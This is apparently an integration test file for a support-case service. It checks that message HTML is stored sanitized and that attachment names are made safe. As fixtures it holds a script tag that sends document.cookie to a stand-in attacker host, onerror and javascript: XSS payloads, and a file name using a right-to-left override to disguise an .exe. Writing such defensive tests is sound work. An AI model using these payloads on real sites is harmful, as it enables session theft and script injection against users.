"""Whatever channel or integrator put markup in a message, the case an agent opens holds only inert HTML and safe
file names: case_service sanitizes on the way in, whatever an adapter did before."""

from __future__ import annotations

from shared.events import AddressKind, AttachmentMeta, Channel
from tests.integration.case_service.builders import received
from tests.integration.case_service.case_api import CaseApi

HOSTILE = (
    '<div id="root" class="gmail_quote" style="position:fixed;inset:0">'
    "<p>Đơn hàng của tôi bị vỡ.</p>"
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    '<img src="x" onerror="alert(1)">'
    '<img src="https://t.example/open.gif?u=42" width="1" height="1">'
    '<img src="cid:photo1@khach.vn" alt="the box">'
    '<a href="javascript:alert(2)">xem đơn</a>'
    '<a href="https://shop.example/orders/1">đơn 1</a>'
    "</div>"
)


async def test_a_message_s_html_is_stored_inert_whoever_sent_it(api: CaseApi) -> None:
    data = received("an@example.com", text="Đơn hàng của tôi bị vỡ.").model_copy(update={"html": HOSTILE})

    [message, *_] = (await api.case(await api.deliver(data)))["messages"]

    html = message["html"]
    for gone in ("<script", "evil.example", "onerror", "alert", "javascript:", "t.example", "id=", "class=", "style="):
        assert gone not in html, gone
    assert "<p>Đơn hàng của tôi bị vỡ.</p>" in html
    assert 'src="cid:photo1@khach.vn"' in html
    assert '<a href="https://shop.example/orders/1" rel="noopener noreferrer nofollow">đơn 1</a>' in html


async def test_an_attachment_name_from_any_channel_is_stored_safe(api: CaseApi) -> None:
    data = received("84912345678", kind=AddressKind.WHATSAPP, channel=Channel.WHATSAPP, subject=None).model_copy(
        update={
            "attachments": (
                AttachmentMeta(filename="hoá đơn\u202efdp.exe", content_type="application/pdf", url="https://x/1"),
                AttachmentMeta(filename="scan.pdf\x00 . ", content_type="application/pdf", url="https://x/2"),
                AttachmentMeta(filename="..", content_type="image/jpeg", url="https://x/3"),
            )
        }
    )

    [message, *_] = (await api.case(await api.deliver(data)))["messages"]

    assert [attachment["filename"] for attachment in message["attachments"]] == ["hoá đơnfdp.exe", "scan.pdf", None]
